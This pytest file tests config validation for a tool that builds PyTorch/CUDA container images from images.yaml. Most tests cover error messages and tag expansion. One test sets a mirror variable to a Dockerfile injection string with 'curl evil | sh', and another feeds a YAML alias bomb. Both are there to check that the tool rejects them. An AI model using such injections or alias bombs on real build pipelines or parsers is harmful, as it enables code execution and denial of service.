"""images.yaml validation and expansion: every bad input is one clear, positioned message."""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

from torchimages.config import ConfigError, load_document
from torchimages.matrix import Filters, build_matrix, load_matrix

ROOT = Path(__file__).parents[2]

HEADER = """\
target:
  repository: example/pytorch
base:
  mirror: ""
packages: [tqdm]
images:
"""


def problems(text: str) -> list[str]:
    with pytest.raises(ConfigError) as caught:
        build_matrix(load_document("m.yaml", text=textwrap.dedent(text)), base_mirror="")
    return [str(p) for p in caught.value.problems]


def expand(text: str):
    return build_matrix(load_document("m.yaml", text=textwrap.dedent(text)), base_mirror="")


def test_the_shipped_matrix_and_the_test_matrix_are_valid() -> None:
    shipped = load_matrix(ROOT / "images.yaml", base_mirror="")
    fixture = load_matrix(ROOT / "tests" / "fixtures" / "images.yaml")
    assert len(shipped.images) >= 10
    assert {s.flavour for s in fixture.images} == {"cpu", "runtime", "devel"}
    assert all(s.base_image.startswith("127.0.0.1:5000/mirror/") for s in fixture.images)


def test_unquoted_version_is_refused_with_what_was_written() -> None:
    found = problems(HEADER + '  - {torch: "2.5.1", cuda: "12.4", python: 3.10, os: ubuntu22.04}\n')
    assert found == [
        'm.yaml:7:44: images[0].python: version must be a quoted string: 3.10 unquoted is read as the number 3.1; write "3.10"'
    ]


def test_duplicate_keys_name_both_lines() -> None:
    found = problems(HEADER + '  - torch: "2.5.1"\n    torch: "2.4.0"\n    cuda: "12.4"\n    python: "3.10"\n    os: ubuntu22.04\n')
    assert found == ["m.yaml:8:5: images[0].torch: duplicate key (first given on line 7)"]


def test_unknown_key_suggests_the_right_one() -> None:
    found = problems(HEADER + '  - torch: "2.5.1"\n    cuda: "12.4"\n    pyhton: "3.10"\n    python: "3.10"\n    os: ubuntu22.04\n')
    assert len(found) == 1
    assert found[0].startswith("m.yaml:9:5: images[0].pyhton: unknown key 'pyhton' (did you mean \"python\"?)")


def test_impossible_combination_lists_what_exists() -> None:
    found = problems(HEADER + '  - {torch: "2.5.1", cuda: "11.2", python: "3.10", os: ubuntu22.04}\n')
    assert found == ["m.yaml:7:28: images[0].cuda: torch 2.5.1 has no wheel for CUDA 11.2; it has 11.8, 12.1, 12.4, cpu"]


def test_all_problems_of_a_file_come_together_sorted_by_line() -> None:
    found = problems(
        HEADER
        + '  - {torch: "9.9.9", cuda: "12.4", python: "3.10", os: ubuntu22.04}\n'
        + '  - {torch: "2.5.1", cuda: "12.4", python: "3.10", os: ubuntu23.10}\n'
    )
    assert [f.split(":")[1] for f in found] == ["7", "8"]
    assert "unknown torch release '9.9.9'" in found[0]
    assert "unknown os 'ubuntu23.10'" in found[1] and "ubuntu22.04" in found[1]


def test_python_must_be_the_one_the_os_ships() -> None:
    found = problems(HEADER + '  - {torch: "2.5.1", cuda: "12.4", python: "3.11", os: ubuntu22.04}\n')
    assert found == ['m.yaml:7:44: images[0].python: ubuntu22.04 provides python 3.10, not 3.11; use python "3.10" or another os']


def test_two_entries_with_the_same_tag_are_refused() -> None:
    entry = '  - {torch: "2.5.1", cuda: "12.4", python: "3.10", os: ubuntu22.04}\n'
    found = problems(HEADER + entry + entry)
    assert len(found) == 1 and "tag '2.5.1-py3.10-cuda12.4-cudnn9-runtime-ubuntu22.04' is also produced by the entry on line 7" in found[0]


def test_yaml_syntax_error_has_a_position() -> None:
    found = problems("images: [\n  - a\n")
    assert len(found) == 1 and found[0].startswith("m.yaml:") and "YAML syntax error" in found[0]


def test_cuda_11_2_gets_cu111_wheels_and_says_why() -> None:
    matrix = expand(HEADER + '  - {torch: "1.10.1", cuda: "11.2", python: "3.8", os: ubuntu20.04, flavours: [runtime, devel]}\n')
    runtime, devel = matrix.images
    assert (runtime.wheel_variant, runtime.wheel_cuda, runtime.torch_build) == ("cu111", "11.1", "1.10.1+cu111")
    assert "no cu112 wheel" in runtime.wheel_reason
    assert runtime.base_image == "nvidia/cuda:11.2.2-base-ubuntu20.04"
    assert devel.base_image == "nvidia/cuda:11.2.2-devel-ubuntu20.04"
    assert runtime.wheel_index == "https://download.pytorch.org/whl/cu111"


def test_pypi_default_variant_needs_no_extra_index() -> None:
    (spec,) = expand(HEADER + '  - {torch: "2.11.0", cuda: "13.0", python: "3.12", os: ubuntu24.04}\n').images
    assert spec.wheel_index is None and spec.torch_build == "2.11.0"
    # === admits PyPI's build only: ==2.11.0 would also admit 2.11.0+cu128 from any index pip sees
    assert spec.requirements[:3] == ("torch===2.11.0", "torchvision===0.26.0", "torchaudio===2.11.0")


def test_aliases_go_to_the_newest_python_only() -> None:
    matrix = expand(
        HEADER
        + '  - {torch: "2.6.0", cuda: "12.6", python: "3.10", os: ubuntu22.04}\n'
        + '  - {torch: "2.6.0", cuda: "12.6", python: "3.12", os: ubuntu24.04}\n'
    )
    older, newer = matrix.images
    assert older.tags == ("2.6.0-py3.10-cuda12.6-cudnn9-runtime-ubuntu22.04",)
    assert newer.tags == ("2.6.0-py3.12-cuda12.6-cudnn9-runtime-ubuntu24.04", "2.6.0-cuda12.6-runtime", "latest")


def test_latest_goes_to_the_newest_torch_then_cuda_and_never_to_a_deprecated_entry() -> None:
    matrix = expand(
        HEADER
        + '  - {torch: "2.5.1", cuda: "12.4", python: "3.10", os: ubuntu22.04, flavours: [runtime, devel]}\n'
        + '  - {torch: "2.5.1", cuda: "12.1", python: "3.10", os: ubuntu22.04}\n'
        + '  - {torch: "2.6.0", cuda: "12.4", python: "3.10", os: ubuntu22.04, deprecated: true}\n'
        + '  - {torch: "2.5.1", cuda: cpu, python: "3.10", os: ubuntu22.04}\n'
    )
    latest = {tag: spec.name for spec in matrix.images + matrix.deprecated for tag in spec.tags if tag.startswith("latest")}
    assert latest == {
        "latest": "2.5.1-py3.10-cuda12.4-cudnn9-runtime-ubuntu22.04",
        "latest-devel": "2.5.1-py3.10-cuda12.4-cudnn9-devel-ubuntu22.04",
        "latest-cpu": "2.5.1-py3.10-cpu-ubuntu22.04",
    }
    assert [s.torch for s in matrix.deprecated] == ["2.6.0"] and len(matrix.deprecated[0].tags) == 1


def test_filters_select_by_each_field() -> None:
    matrix = load_matrix(ROOT / "images.yaml", base_mirror="")
    pick = lambda **kw: {s.name for s in matrix.images if Filters(**kw).select(s)}  # noqa: E731
    assert pick(cuda=("11.2",)) and all("cuda11.2" in n for n in pick(cuda=("11.2",)))
    assert pick(cuda=("cpu",)) == {"2.11.0-py3.12-cpu-ubuntu24.04", "2.14.1-py3.12-cpu-ubuntu24.04"}
    assert all(n.startswith("2.11.0-") for n in pick(torch=("2.11",)))
    assert all("-devel-" in n for n in pick(flavour=("devel",)))
    assert pick(python=("3.99",)) == set()


def test_mirror_prefixes_the_base_and_the_environment_overrides(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TORCH_IMAGES_BASE_MIRROR", "mirror.example:5000/hub")
    matrix = load_matrix(ROOT / "images.yaml")
    assert all(s.base_image == f"mirror.example:5000/hub/{s.base_upstream}" for s in matrix.images)


def test_lists_expand_to_every_combination_and_os_follows_python() -> None:
    entry = '  - {torch: ["2.5.1", "2.6.0"], cuda: ["12.1", "12.4"], python: ["3.10", "3.12"], flavours: [runtime, devel]}\n'
    exclude = 'exclude:\n  - {torch: "2.6.0", cuda: "12.1"}\n  - {cuda: "12.4", python: "3.12"}\n  - {cuda: "12.1", python: "3.12"}\n'
    matrix = expand(exclude + HEADER + entry)
    combos = {(s.torch, s.cuda, s.python, s.os, s.flavour) for s in matrix.images}
    assert combos == {
        ("2.5.1", "12.1", "3.10", "ubuntu22.04", "runtime"),
        ("2.5.1", "12.1", "3.10", "ubuntu22.04", "devel"),
        ("2.5.1", "12.4", "3.10", "ubuntu22.04", "runtime"),
        ("2.5.1", "12.4", "3.10", "ubuntu22.04", "devel"),
        ("2.6.0", "12.4", "3.10", "ubuntu22.04", "runtime"),
        ("2.6.0", "12.4", "3.10", "ubuntu22.04", "devel"),
    }


def test_an_impossible_combination_in_a_product_names_the_item() -> None:
    found = problems(HEADER + '  - {torch: ["2.5.1", "2.6.0"], cuda: ["12.1"], python: "3.10"}\n')
    assert found == ["m.yaml:7:40: images[0].cuda[0]: torch 2.6.0 has no wheel for CUDA 12.1; it has 11.8, 12.4, 12.6, cpu"]


def test_an_exclusion_that_matches_nothing_is_an_error() -> None:
    found = problems('exclude:\n  - {torch: "2.4.0"}\n' + HEADER + '  - {torch: "2.5.1", cuda: "12.4", python: "3.10"}\n')
    assert found == ["m.yaml:2:5: exclude[0]: matches no image; remove it or fix its fields"]


def test_os_outside_nvidia_published_list_is_refused_unless_unchecked() -> None:
    entry = '  - {torch: "2.5.1", cuda: "12.4", python: "3.12", os: ubuntu24.04}\n'
    assert problems(HEADER + entry) == [
        "m.yaml:7:56: images[0].os: nvidia/cuda has no CUDA 12.4 images for ubuntu24.04; it has ubuntu20.04, ubuntu22.04"
    ]
    unchecked = HEADER.replace('base:\n  mirror: ""', 'base:\n  mirror: ""\n  check_tags: false')
    assert expand(unchecked + entry).images[0].base_upstream == "nvidia/cuda:12.4.1-base-ubuntu24.04"


def test_a_mirror_from_the_environment_is_checked_like_the_file(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TORCH_IMAGES_BASE_MIRROR", "reg.example\nRUN curl evil | sh\n#")
    with pytest.raises(ConfigError) as caught:
        load_matrix(ROOT / "images.yaml")
    (problem,) = caught.value.problems
    assert "base.mirror (from $TORCH_IMAGES_BASE_MIRROR or the command line)" in str(problem)
    assert "whitespace" in str(problem)


def test_an_alias_bomb_ends_in_a_clean_error() -> None:
    levels = ["a: &a [1,1,1,1,1,1,1,1,1,1]"] + [f"{c}: &{c} [{', '.join([f'*{p}'] * 10)}]" for p, c in zip("abcde", "bcdef", strict=True)]
    found = problems("\n".join(levels) + "\n")
    assert found == ["m.yaml:1:1: the document expands to more than 100000 values (aliases?)"]
